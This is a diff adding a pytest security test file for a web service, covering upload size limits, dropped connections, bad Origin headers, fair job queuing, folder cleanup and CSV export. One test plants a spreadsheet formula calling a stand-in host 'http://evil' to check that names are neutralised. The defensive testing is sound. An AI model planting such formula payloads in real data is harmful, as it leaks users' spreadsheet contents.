@@ -1,0 +1,130 @@
+"""What one visitor can do to the studio and to others.  Beside each test: the wrong implementation it catches."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from kit.webbing import Visit, studio
+from moireid.badge import Badge
+from moireid.fabrication.event import _summary
+from moireid.fabrication.parts import Parts
+from moireid.fabrication.process import MountFigures
+from moireid.web.jobs import queue as jobs_module
+from moireid.web.jobs.queue import Jobs
+from moireid.web.problems import Refusal
+from moireid.web.settings import Limits
+
+
+@pytest.fixture(scope="module")
+def visit(tmp_path_factory: pytest.TempPathFactory, ada: Badge) -> Iterator[Visit]:
+    folder = tmp_path_factory.mktemp("fair")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("MOIREID_KEYS", str(folder / "keys"))
+        with studio(folder, ada, work=False, form_bytes=1 << 16) as made:
+            (made.folder / "jobs").mkdir(parents=True)
+            yield made
+
+
+@pytest.mark.parametrize("path", ["/login", "/registry/audit"])
+def test_a_form_is_read_no_further_than_its_limit(visit: Visit, path: str) -> None:
+    """Catches: a form that is spooled to the disk before anybody asks who sends it, as much as is sent."""
+    answer = visit.ask("POST", path, None, files={"x": ("y", bytes(1 << 20))})
+    assert answer.status_code == 413
+
+
+def test_what_is_no_film_is_read_no_further_than_its_limit(visit: Visit) -> None:
+    """Catches: what follows a form's end, read as long as somebody sends it."""
+    film = b"\0\0\0\x18ftypmp42" + bytes(1 << 18)
+    body = b'--b\r\nContent-Disposition: form-data; name="video"\r\n\r\n' + film + b"\r\n--b--\r\n" + bytes(1 << 17)
+    sent = {"Content-Type": "multipart/form-data; boundary=b"}
+    answer = visit.ask("POST", "/api/verify", "verifier", content=body, headers=sent)
+    assert answer.status_code == 413 and "64 kB" in answer.json()["text"]
+    assert visit.left() == []
+
+
+@pytest.mark.parametrize("path", ["/login", "/api/verify", "/registry/audit"])
+@pytest.mark.parametrize("pieces", [0, 2])
+def test_who_goes_away_in_the_middle_leaves_nothing(visit: Visit, path: str, pieces: int) -> None:
+    """Catches: a fault of ours in the log for each visitor who closes a page, and the half of their film."""
+    coming = iter([
+        *({"type": "http.request", "body": b"--b\r\n", "more_body": True} for _ in range(pieces)),
+        {"type": "http.disconnect"},
+    ])  # fmt: skip
+    token = visit.tokens["verifier"].encode()
+    scope = {
+        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "path": path,
+        "raw_path": path.encode(), "query_string": b"", "scheme": "http", "server": ("studio.test", 80),
+        "client": ("127.0.0.1", 5000), "root_path": "",
+        "headers": [(b"host", b"studio.test"), (b"content-type", b"multipart/form-data; boundary=b"),
+                    (b"authorization", b"Bearer " + token)],
+    }  # fmt: skip
+    said: list[int] = []
+
+    async def receive() -> dict[str, Any]:
+        return next(coming)
+
+    async def send(message: Any) -> None:
+        said.append(message.get("status", 0))
+
+    asyncio.run(visit.app(scope, receive, send))
+    assert said[0] in (400, 403)
+    assert visit.left() == []
+
+
+@pytest.mark.parametrize("headers", [{"Origin": "http://["}, {"Origin": "//["}])
+def test_an_address_that_is_none_is_refused(visit: Visit, headers: dict[str, str]) -> None:
+    """Catches: a traceback, and an answer without its headers, where an address cannot be taken apart."""
+    answer = visit.ask("POST", "/logout", None, headers=headers)
+    assert answer.status_code == 403 and "content-security-policy" in answer.headers
+
+
+def test_one_owner_leaves_places_to_others(tmp_path: Path) -> None:
+    """Catches: a queue that one visitor fills with uploads that never end."""
+    held = Jobs(tmp_path / "jobs", Limits(workers=2, waiting=10))
+    (tmp_path / "jobs").mkdir()
+    for _ in range(9):
+        held.admit("verify", "greedy")
+    with pytest.raises(Refusal):
+        held.admit("verify", "greedy")
+    assert [held.admit("verify", "another").owner for _ in range(3)] == ["another"] * 3
+
+
+def test_results_are_counted_by_owner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Catches: one visitor's many results that push out another's one."""
+    monkeypatch.setattr(jobs_module, "SWEEP_S", 0.01)
+    kept = Jobs(tmp_path / "jobs", Limits(workers=1, kept=2, keep_s=1000.0))
+    (tmp_path / "jobs").mkdir()
+    one, *many = [kept.admit("verify", owner) for owner in ("one", "many", "many", "many", "many")]
+    for place, job in enumerate([one, *many]):
+        job.state, job.ended_s = "done", 1e9 + place
+    waits = iter([False, True])
+    monkeypatch.setattr(kept._stopping, "wait", lambda _: next(waits))
+    kept._sweep()
+    assert kept.find(one.id, "one") is one
+    assert [job.id in kept._jobs for job in many] == [False, False, True, True]
+
+
+def test_what_is_not_ours_stays_in_the_folder(tmp_path: Path) -> None:
+    """Catches: a server that empties a folder which was somebody's before."""
+    folder = tmp_path / "jobs"
+    (folder / ("0" * 32)).mkdir(parents=True)
+    (folder / "mine.txt").write_text("mine")
+    work = Jobs(folder, Limits(workers=1))
+    work.start()
+    work.stop()
+    assert [path.name for path in folder.iterdir()] == ["mine.txt"]
+
+
+def test_a_name_is_no_formula(ada: Badge) -> None:
+    """Catches: a list of people that a table's program works out."""
+    named = replace(ada, name='=HYPERLINK("http://evil/?"&A1,"x")')
+    rows = list(csv.DictReader(io.StringIO(_summary(["001-x"], [named], Parts("none", None, MountFigures())))))
+    assert rows[0]["name"] == "'" + named.name
